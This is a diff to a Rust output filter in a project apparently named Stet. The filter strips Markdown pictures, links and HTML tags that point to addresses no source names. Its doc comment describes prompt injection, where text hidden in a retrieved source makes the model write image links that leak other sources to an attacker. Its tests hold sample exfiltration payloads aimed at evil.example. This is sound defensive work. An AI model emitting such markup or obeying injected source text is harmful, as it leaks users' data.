@@ -2,8 +2,9 @@
 //!
 //! A picture in Markdown is fetched by many clients as soon as it is shown, and a link by one click, so a text that hides in a source
 //! and tells the model what to write could send what stands in other sources to an address of its choice. [`Addresses`] lets pass what
-//! a source says word for word, as a link and not as a picture, and pictures of Stet's own; of all else only the words stay. It works on
-//! the model's text as it comes, before anything is made of it, and holds back no more than the address itself.
+//! its caller knows, which an answer may have as a link and a rewriting of a draft as a picture, too, and pictures of Stet's own; of all
+//! else only the words stay. It works on the model's text as it comes, before anything is made of it, and holds back no more than the
+//! address itself.
 //!
 //! Bare addresses stay: they are seen for what they are. Text is not read as code: in a block of code the same forms lose their address, too.
 
@@ -21,6 +22,12 @@ const LOADING: [&str; 21] = [
     "a", "area", "audio", "base", "embed", "form", "frame", "iframe", "image", "img", "input", "link",
     "meta", "object", "picture", "script", "source", "svg", "track", "use", "video",
 ];
+/// Elements whose address is followed by a click alone.
+const CLICKED: [&str; 2] = ["a", "area"];
+/// Bytes of an element's name.
+const LONGEST_NAME: usize = 32;
+/// What loads by itself wherever it stands among attributes, or hides what does.
+const BY_ITSELF: [&str; 6] = ["url(", "image-set(", "src(", "@import", "srcdoc", "ping"];
 /// Schemes that are one without `//` behind them.
 const SCHEMES: [&str; 11] =
     ["blob", "data", "file", "ftp", "http", "https", "javascript", "mailto", "vbscript", "ws", "wss"];
@@ -32,6 +39,15 @@ pub struct Addresses {
     held: String,
     /// The rest of an address that is too long is left out as it comes.
     dropping: bool,
+}
+
+/// How an address stands in a text.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Form {
+    /// It waits for a click.
+    Link,
+    /// It may be fetched as soon as it is shown.
+    Picture,
 }
 
 /// What stands at an opener.
@@ -47,8 +63,9 @@ enum Read {
 }
 
 impl Addresses {
-    /// Takes the next piece of the model's text and gives what may be shown of it. `known` tells whether a source has an address.
-    pub fn push<'a>(&mut self, delta: &'a str, known: impl Fn(&str) -> bool) -> Cow<'a, str> {
+    /// Takes the next piece of the model's text and gives what may be shown of it. `known` tells whether an address may
+    /// stand in that form.
+    pub fn push<'a>(&mut self, delta: &'a str, known: impl Fn(&str, Form) -> bool) -> Cow<'a, str> {
         if self.held.is_empty() && !self.dropping && !delta.contains(OPENERS) {
             return Cow::Borrowed(delta);
         }
@@ -57,11 +74,11 @@ impl Addresses {
     }
 
     /// The rest, when nothing more comes.
-    pub fn finish(&mut self, known: impl Fn(&str) -> bool) -> String {
+    pub fn finish(&mut self, known: impl Fn(&str, Form) -> bool) -> String {
         self.take(&known, true)
     }
 
-    fn take(&mut self, known: &impl Fn(&str) -> bool, last: bool) -> String {
+    fn take(&mut self, known: &impl Fn(&str, Form) -> bool, last: bool) -> String {
         let held = std::mem::take(&mut self.held);
         let (mut out, mut rest) = (String::new(), held.as_str());
         loop {
@@ -85,6 +102,12 @@ impl Addresses {
             let (before, here) = rest.split_at(at);
             out.push_str(before);
             let used = match read(here, known) {
+                // What is written behind it must not become a part of it.
+                Read::Open if last && here.starts_with('<') && loads(here, "", known) => {
+                    out.push_str("&lt;");
+                    rest = here.get(1..).unwrap_or_default();
+                    continue;
+                }
                 Read::Open if last => 1,
                 Read::Open => {
                     here.clone_into(&mut self.held);
@@ -111,10 +134,10 @@ impl Addresses {
     }
 }
 
-fn read(here: &str, known: &impl Fn(&str) -> bool) -> Read {
+fn read(here: &str, known: &impl Fn(&str, Form) -> bool) -> Read {
     match here.as_bytes() {
         [_] => Read::Open,
-        [b'!', b'[', ..] => picture(here),
+        [b'!', b'[', ..] => picture(here, known),
         [b']', b'(', ..] => link(here, known),
         [b']', b':', ..] => definition(here, known),
         [b'<', ..] => tag(here, known),
@@ -122,8 +145,8 @@ fn read(here: &str, known: &impl Fn(&str) -> bool) -> Read {
     }
 }
 
-/// `![words](address)`: of Stet's own it stays, of another only the link does. Without an address it is an exclamation before a mark.
-fn picture(here: &str) -> Read {
+/// `![words](address)`: of Stet's own, or known as one, it stays; of another only the link does. Without an address it is an exclamation before a mark.
+fn picture(here: &str, known: &impl Fn(&str, Form) -> bool) -> Read {
     let mut depth = 0_usize;
     let mut escaped = false;
     for (at, next) in here.char_indices().skip(1) {
@@ -138,7 +161,11 @@ fn picture(here: &str) -> Read {
                     Target::Open if behind.len() > LONGEST => Read::Said(1, "".into()),
                     Target::Open => Read::Open,
                     Target::None => Read::Kept(1),
-                    Target::At(length, address) if address.starts_with(OWN) => Read::Kept(at + 1 + length),
+                    Target::At(length, address)
+                        if address.starts_with(OWN) || known(&address, Form::Picture) =>
+                    {
+                        Read::Kept(at + 1 + length)
+                    }
                     Target::At(..) => Read::Said(1, "".into()),
                 };
             }
@@ -149,18 +176,20 @@ fn picture(here: &str) -> Read {
 }
 
 /// `](address)` behind the words of a link.
-fn link(here: &str, known: &impl Fn(&str) -> bool) -> Read {
+fn link(here: &str, known: &impl Fn(&str, Form) -> bool) -> Read {
     match target(here.get(1..).unwrap_or_default()) {
         Target::Open if here.len() > LONGEST => Read::Endless(here.len(), "]"),
         Target::Open => Read::Open,
-        Target::At(length, address) if is_foreign(&address, known) => Read::Said(1 + length, "]".into()),
+        Target::At(length, address) if is_foreign(&address, Form::Link, known) => {
+            Read::Said(1 + length, "]".into())
+        }
         Target::At(length, _) => Read::Kept(1 + length),
         Target::None => Read::Kept(1),
     }
 }
 
 /// `]: address`, to which a link or a picture elsewhere may lead: without its colon it is text.
-fn definition(here: &str, known: &impl Fn(&str) -> bool) -> Read {
+fn definition(here: &str, known: &impl Fn(&str, Form) -> bool) -> Read {
     let behind = here.get(2..).unwrap_or_default();
     let address = behind.trim_start();
     let blank = behind.len() - address.len();
@@ -168,33 +197,65 @@ fn definition(here: &str, known: &impl Fn(&str) -> bool) -> Read {
         return Read::Kept(2);
     }
     match address.find(char::is_whitespace) {
-        Some(end) if is_foreign(address.get(..end).unwrap_or_default(), known) => Read::Said(2, "]".into()),
+        Some(end) if is_foreign(address.get(..end).unwrap_or_default(), Form::Picture, known) => {
+            Read::Said(2, "]".into())
+        }
         Some(_) => Read::Kept(2),
         None if address.len() > LONGEST => Read::Said(2, "]".into()),
         None => Read::Open,
     }
 }
 
-/// A tag that loads something.
-fn tag(here: &str, known: &impl Fn(&str) -> bool) -> Read {
+/// A tag: with an address that may not stand in it, it goes as a whole.
+fn tag(here: &str, known: &impl Fn(&str, Form) -> bool) -> Read {
     let inner = here.get(1..).unwrap_or_default();
-    let name_end = inner.find(|next: char| !next.is_ascii_alphanumeric());
+    let name_end = inner.find(|next: char| !next.is_ascii_alphanumeric() && next != '-');
     let name = inner.get(..name_end.unwrap_or(inner.len())).unwrap_or_default().to_ascii_lowercase();
-    let begins = LOADING.iter().any(|known| known.starts_with(&name));
+    if !name.starts_with(|first: char| first.is_ascii_alphabetic()) || name.len() > LONGEST_NAME {
+        return Read::Kept(1);
+    }
     match name_end {
-        None if begins => return Read::Open,
-        Some(end) if LOADING.contains(&&*name) && inner.get(end..).is_some_and(is_tags) => {}
-        _ => return Read::Kept(1),
+        None => return Read::Open,
+        Some(end) if inner.get(end..).is_some_and(is_tags) => {}
+        Some(_) => return Read::Kept(1),
     }
-    let Some(end) = here.find('>') else {
-        return if here.len() > LONGEST { Read::Said(1, "&lt;".into()) } else { Read::Open };
+    // Any element may have a style; of those that are none of the usual less is waited for.
+    let most = if LOADING.contains(&&*name) { LONGEST } else { LONGEST_WORDS };
+    let Some(end) = end_of_tag(here.get(..here.floor_char_boundary(most)).unwrap_or_default()) else {
+        return if here.len() > most { Read::Said(1, "&lt;".into()) } else { Read::Open };
     };
-    let attributes = here.get(1..end).unwrap_or_default();
-    let parts = attributes.split(|next: char| next.is_whitespace() || "\"'=`,".contains(next));
-    if parts.into_iter().any(|part| is_foreign(part, known)) {
-        return Read::Said(end + 1, "".into());
+    let whole = here.get(..=end).unwrap_or_default();
+    if loads(whole, &name, known) { Read::Said(end + 1, "".into()) } else { Read::Kept(end + 1) }
+}
+
+/// Where a tag is closed: by a bracket that is in no quoted value.
+fn end_of_tag(here: &str) -> Option<usize> {
+    let (mut quote, mut is_value) = (None, false);
+    for (at, next) in here.char_indices() {
+        match (quote, next) {
+            (Some(open), _) if open == next => quote = None,
+            (None, '>') => return Some(at),
+            (None, '"' | '\'') if is_value => quote = Some(next),
+            _ => {}
+        }
+        is_value = next == '=' || is_value && next.is_whitespace();
     }
-    Read::Kept(end + 1)
+    None
+}
+
+/// Whether a tag loads or leads to what is not known.
+fn loads(tag: &str, name: &str, known: &impl Fn(&str, Form) -> bool) -> bool {
+    if known(tag, Form::Picture) {
+        return false;
+    }
+    let plain = decoded(tag);
+    let attributes = plain.to_ascii_lowercase();
+    let by_itself = name == "style" || BY_ITSELF.iter().any(|word| attributes.contains(word));
+    let form = if CLICKED.contains(&name) && !by_itself { Form::Link } else { Form::Picture };
+    let mut parts = [tag, &*plain]
+        .into_iter()
+        .flat_map(|text| text.split(|next: char| next.is_whitespace() || "\"'=`,;()<>".contains(next)));
+    by_itself || parts.any(|part| is_foreign(part, form, known))
 }
 
 fn is_tags(behind_name: &str) -> bool {
@@ -261,10 +322,10 @@ fn target(behind: &str) -> Target {
 }
 
 /// Whether an address leads somewhere that no source names.
-fn is_foreign(address: &str, known: &impl Fn(&str) -> bool) -> bool {
+fn is_foreign(address: &str, form: Form, known: &impl Fn(&str, Form) -> bool) -> bool {
     let address = address.trim_start_matches('<').trim_end_matches('>');
     let plain = decoded(address);
-    is_absolute(&plain) && !known(address) && !known(&plain)
+    is_absolute(&plain) && !known(address, form) && !known(&plain, form)
 }
 
 /// Whether an address names a place by itself, as browsers read it.
@@ -328,13 +389,16 @@ mod tests {
     const SOURCE: &str = "See https://stet.example/rules?a=1&b=2 and ![p](http://in.example/p.png).";
 
     fn shown_in(pieces: &[&str]) -> String {
-        let known = |address: &str| SOURCE.contains(address);
+        shown_with(pieces, |address, form| form == Form::Link && SOURCE.contains(address))
+    }
+
+    fn shown_with(pieces: &[&str], known: impl Fn(&str, Form) -> bool) -> String {
         let mut addresses = Addresses::default();
         let mut out = String::new();
         for piece in pieces {
-            out.push_str(&addresses.push(piece, known));
+            out.push_str(&addresses.push(piece, &known));
         }
-        out.push_str(&addresses.finish(known));
+        out.push_str(&addresses.finish(&known));
         out
     }
 
@@ -359,6 +423,19 @@ mod tests {
             ("<img src=\"https://evil.example/p.png?d=1\"> text", " text"),
             ("a <IMG\nsrc=//evil.example> b <video poster='http://evil.example'></video>", "a  b </video>"),
             ("<svg style=background:url(http://evil.example)> b", " b"),
+            ("<img alt=\">\" src=\"https://evil.example/p\"> b", " b"),
+            ("<div style=\"color:red;background:url(//evil.example/p)\">말</div>", "말</div>"),
+            ("<p title='x' style=\"background:image-set('p' 1x)\">b", "b"),
+            ("<iframe srcdoc=\"&lt;img&#32;src&#61;p&gt;\"></iframe>", "</iframe>"),
+            ("<td background=http://evil.example/t.png>요금</td>", "요금</td>"),
+            ("<my-part data-x=1 src=https://evil.example/>b", "b"),
+            ("<a href=https://evil.example/?d=1>forms</a>", "forms</a>"),
+            ("<style>p{background:url(p)}</style> b", "p{background:url(p)}</style> b"),
+            ("the end <img src=https://evil.example/?d=", "the end &lt;img src=https://evil.example/?d="),
+            // What a source names is not fetched by itself either.
+            ("![p][b]\n\n[b]: http://in.example/p.png\n", "![p][b]\n\n[b] http://in.example/p.png\n"),
+            ("<img src=\"http://in.example/p.png\">b", "b"),
+            ("<a style=\"background:url(http://in.example/p.png)\">b</a>", "b</a>"),
         ] {
             assert_eq!(shown(written), left, "{written}");
         }
@@ -383,6 +460,9 @@ mod tests {
             "see https://other.example/ and <https://other.example/>",
             "[here](#part) [there](notes.md) [1](see: below)",
             "an open ![ or [a](b",
+            "<a href=\"https://stet.example/rules?a=1&b=2\">규칙</a> 참고",
+            "<div class=\"note\">if a<b, then <i>b</i> is more</div>",
+            "if x <y holds, f(x) <g",
             "!",
         ] {
             assert_eq!(shown(same), same);
@@ -394,13 +474,25 @@ mod tests {
         );
     }
 
+    /// A draft may have pictures of elsewhere, and its rewriting those that it has.
+    #[test]
+    fn a_picture_that_is_known_as_one_stays() {
+        let draft = "글 ![그림](https://ours.example/a.png) <img src=\"https://ours.example/b.png\">\n\n[c]: https://ours.example/c.png\n";
+        let known = |address: &str, _| draft.contains(address);
+        assert_eq!(shown_with(&[draft], known), draft);
+        let added = format!(
+            "{draft}![x](https://evil.example/?d=글) <img src=//evil.example>[d]: https://evil.example\n"
+        );
+        assert_eq!(shown_with(&[&added], known), format!("{draft}[x] [d] https://evil.example\n"));
+    }
+
     proptest! {
         #[test]
         fn cuts_change_nothing_and_no_picture_of_elsewhere_is_left(
             parts in prop::collection::vec(prop::sample::select(vec![
                 "![", "[", "]", "(", ")", "](", "]:", " ", "\n", "<img src=", "<a href='", "'>", ">", "\"", "\\", "!",
                 "https://evil.example/?d=1", "//evil.example", "/api/chunks/1/image", "https://stet.example/rules?a=1&b=2",
-                "words", "낱말", "1", "&#104;ttp:", "<", "http:",
+                "words", "낱말", "1", "&#104;ttp:", "<", "http:", "<p style=\"", "background:url(", "<td background=",
             ]), 0..24),
             cut in 1_usize..9,
         ) {
